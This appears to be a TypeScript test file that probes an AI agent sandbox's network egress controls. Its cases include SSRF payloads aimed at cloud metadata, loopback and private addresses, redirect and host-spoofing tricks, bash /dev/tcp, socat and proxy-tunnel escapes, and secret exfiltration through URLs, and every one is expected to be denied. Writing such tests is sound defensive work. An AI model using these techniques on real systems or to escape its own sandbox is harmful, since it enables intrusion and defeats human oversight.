import type { Attack, Call } from '../attack.ts';
import { bash, grantOf, read, SHELL, variants } from '../attack-parts.ts';

/**
 * Classes 65 to 78: the ways out. Hosts are those of `test/support/web-world.ts`: `granted.test` answers, `other.test` is
 * the same server, `rebound.test` is at a cloud's metadata, `flip.test` moves from the server to this machine.
 */

const fetch = (url: string): Call => ({ name: 'WebFetch', input: { url } });
const redirect = (to: string): Call => fetch(`http://granted.test/redirect?to=${encodeURIComponent(to)}`);
const tryAll = (urls: readonly string[]): Record<string, Call> =>
  Object.fromEntries(urls.map((url) => [`fetches ${url}`, fetch(url)]));

const GRANTED = grantOf('Read', 'WebFetch(domain:granted.test)');
/** Any host by its name: what is left is what its address says. */
const ANYWHERE = grantOf('Read', 'WebFetch');
const NAMES = ['granted', 'rebound', 'inside', 'mixed', 'flip'].map((name) => `WebFetch(domain:${name}.test)`);
const MOVING = grantOf('Read', ...NAMES);
const WIRED = { ...SHELL, allow: [...SHELL.allow, 'WebFetch(domain:granted.test)', 'WebFetch(domain:rebound.test)'] };

const page = {
  title: 'fetches what is granted',
  calls: [fetch('http://granted.test/')],
  answers: /Hello from granted/,
};
const wire = { title: 'gets what is granted', calls: [bash('curl -s http://granted.test/')], answers: /Hello from/ };
/** Nothing came back, and the command said so itself. */
const NO_WAY = { answers: /^(?![\s\S]*(?:Hello|GOT-OUT))[\s\S]*no way/ };
const noWay = (command: string): Call => bash(`(${command}) && echo GOT-OUT || echo no way`);

export const egress: Attack[] = [
  ...variants({
    number: 65,
    grant: ANYWHERE,
    expect: { reasons: ['SSRF_DENIED'] },
    tries: tryAll([
      'http://169.254.169.254/latest/meta-data/',
      'http://[fd00:ec2::254]/latest/meta-data/',
      'http://100.100.100.200/latest/meta-data/',
      'http://168.63.129.16/machine',
      'http://169.254.170.2/v2/credentials',
      'http://2852039166/latest/meta-data/',
      'http://[::ffff:a9fe:a9fe]/',
      'http://rebound.test/latest/meta-data/',
    ]),
    twin: page,
  }),
  ...variants({
    number: 66,
    grant: ANYWHERE,
    expect: { reasons: ['SSRF_DENIED'] },
    tries: tryAll([
      'http://127.0.0.1/',
      'http://127.1/',
      'http://2130706433/',
      'http://0x7f000001/',
      'http://0177.0.0.1/',
      'http://[::1]/',
      'http://[::]/',
      'http://[::ffff:127.0.0.1]/',
      'http://[::127.0.0.1]/',
      'http://[64:ff9b::7f00:1]/',
      'http://0.0.0.0/',
      'http://１２７.０.０.１/',
      'http://127.0.0.1./',
      'http://inside.test/',
    ]),
    twin: page,
  }),
  ...variants({
    number: 67,
    grant: ANYWHERE,
    expect: { reasons: ['SSRF_DENIED'] },
    tries: tryAll([
      'http://10.0.0.1/',
      'http://172.16.0.1/',
      'http://192.168.0.1/',
      'http://100.64.0.1/',
      'http://[fd00::1]/',
      'http://[fe80::1]/',
      'http://[2002:a00:1::]/',
      'http://198.18.0.1/',
      'http://224.0.0.1/',
      'http://240.0.0.1/',
    ]),
    twin: page,
  }),
  ...variants({
    number: 68,
    grant: MOVING,
    expect: { reasons: ['SSRF_DENIED'] },
    tries: {
      'comes back to a name that has moved inside': [fetch('http://flip.test/'), fetch('http://flip.test/')],
      'fetches a name with one address inside': fetch('http://mixed.test/'),
      'fetches a granted name that is inside': fetch('http://inside.test/'),
      'is sent to a name that is inside': redirect('http://rebound.test/latest/meta-data/'),
    },
    twin: page,
  }),
  ...variants({
    number: 69,
    grant: ANYWHERE,
    expect: { reasons: ['SSRF_DENIED', 'HOST_DENIED'] },
    tries: {
      'is sent to this machine': redirect('http://127.0.0.1/'),
      'is sent to metadata by number': redirect('http://2852039166/'),
      'is sent to a private network': redirect('//10.0.0.1/'),
      'is sent to a file': redirect('file:///etc/passwd'),
      'is sent to another protocol': redirect('gopher://granted.test/'),
      'is sent on twice': redirect(`/redirect?to=${encodeURIComponent('http://[::1]/')}`),
    },
    twin: { title: 'is sent to what is granted', calls: [redirect('/')], answers: /Hello from granted/ },
  }),
  ...variants({
    number: 70,
    grant: GRANTED,
    expect: { reasons: ['HOST_DENIED'] },
    tries: {
      ...tryAll([
        'http://other.test/',
        'http://granted.test.other.test/',
        'http://not-granted.test/',
        'http://sub.granted.test/',
        'http://granted.test@other.test/',
        'http://granted.test:80@other.test/',
        'http://other.test\\@granted.test/',
        'http://other.test#@granted.test/',
        'http://other.test?@granted.test/',
        'http://gr\u0430nted.test/',
        'http://xn--grnted-5qa.test/',
        'http://granted.test\u3002other.test/',
        'http://*.test/',
        'http://127.0.0.1/',
      ]),
      'is sent to another host': redirect('http://other.test/'),
      'is sent to another host by credentials': redirect('http://granted.test@other.test/'),
    },
    twin: {
      title: 'spells the granted host in another way',
      calls: [fetch('HTTP://GRANTED.test.:80/')],
      answers: /Hello from granted/,
    },
  }),
  ...Object.entries({
    'no rule': grantOf('Read'),
    'an empty domain': grantOf('Read', 'WebFetch(domain:)'),
    'a URL for a domain': grantOf('Read', 'WebFetch(domain:http://granted.test)'),
    'another parameter': grantOf('Read', 'WebFetch(host:granted.test)'),
  }).flatMap(([title, grant]) =>
    variants({
      number: 71,
      grant,
      expect: { reasons: ['NOT_GRANTED', 'HOST_DENIED', 'GRANT_INVALID'] },
      tries: { [`fetches a page by ${title}`]: fetch('http://granted.test/') },
      twin: { title: 'reads a file', calls: [read('inside.txt')] },
    }),
  ),
  ...variants({
    number: 72,
    grant: WIRED,
    expect: NO_WAY,
    tries: {
      'connects to a granted host’s address': noWay('curl -s --noproxy "*" --max-time 2 http://127.7.7.7/'),
      'connects to this machine': noWay('timeout 2 bash -c "echo x > /dev/tcp/127.0.0.1/22"'),
      'connects to the internet': noWay('timeout 2 bash -c "echo x > /dev/tcp/1.1.1.1/443"'),
      'sends a datagram': noWay('timeout 2 bash -c "echo x > /dev/udp/1.1.1.1/53"'),
    },
    twin: wire,
  }),
  ...variants({
    number: 73,
    grant: WIRED,
    expect: { answers: /^(?![\s\S]*Hello)[\s\S]*Denied \((?:HOST|SSRF)_DENIED\)/ },
    tries: {
      'asks the broker for another host': bash('curl -s http://other.test/'),
      'asks it for metadata': bash('curl -s http://rebound.test/latest/meta-data/'),
      'asks it for this machine': bash('curl -s http://127.0.0.1/'),
      'names a granted host in a header': bash('curl -s -H "Host: granted.test" http://other.test/'),
      'puts a relay before it': bash(
        'socat TCP-LISTEN:8080,bind=127.0.0.1,fork TCP:127.0.0.1:3128 & sleep 0.3; curl -s -x http://127.0.0.1:8080 http://other.test/; kill %1',
      ),
      'asks it for a tunnel elsewhere': bash(
        'exec 3<>/dev/tcp/127.0.0.1/3128; printf "CONNECT other.test:443 HTTP/1.1\\r\\n\\r\\n" >&3; timeout 2 cat <&3',
      ),
    },
    twin: wire,
  }),
  ...variants({
    number: 74,
    grant: WIRED,
    expect: NO_WAY,
    tries: {
      'asks for one host and speaks to another': noWay(
        'curl -sk --max-time 5 --connect-to other.test:443:granted.test:443 https://other.test/',
      ),
      'names no host': noWay('curl -sk --max-time 5 --connect-to [::1]:443:granted.test:443 https://[::1]/'),
      'speaks no TLS': noWay('curl -sf --max-time 5 --proxytunnel -x "$http_proxy" http://granted.test:443/'),
    },
    twin: { ...wire, calls: [bash('curl -sk https://granted.test/')] },
  }),
  ...variants({
    number: 75,
    grant: WIRED,
    expect: NO_WAY,
    tries: {
      'looks a name up': noWay('getent hosts secret.other.test'),
      'looks the granted name up': noWay('getent hosts granted.test'),
      'asks the broker to look one up': noWay('curl -sf --max-time 5 http://secret.other.test/'),
    },
    twin: wire,
  }),
  ...variants({
    number: 76,
    grant: GRANTED,
    expect: { reasons: ['HOST_DENIED'] },
    tries: {
      'carries a secret out as a password': fetch('http://user:secret@granted.test/'),
      'carries it out as a name': fetch('http://secret.granted.test/'),
      'is sent on with a secret for a name': redirect('http://secret@granted.test/'),
    },
    twin: page,
  }),
  ...variants({
    number: 77,
    grant: GRANTED,
    expect: {
      answers:
        /refused as a bomb|longer than what is read|headers of granted\.test are too large|plainer version|more than 3 times/,
    },
    tries: {
      'unpacks a bomb': fetch('http://granted.test/bomb'),
      'reads without end': fetch('http://granted.test/endless'),
      'reads headers without end': fetch('http://granted.test/headers'),
      'reads a page nested without end': fetch('http://granted.test/deep'),
      'goes round in circles': fetch('http://granted.test/circle'),
    },
    twin: page,
  }),
  ...variants({
    number: 78,
    grant: GRANTED,
    expect: { answers: /^(?![\s\S]*(?:!\[|\]\(|pixel|javascript:))[\s\S]*the end/ },
    tries: { 'shows a picture that tells who looks': fetch('http://granted.test/picture') },
    twin: page,
  }),
];
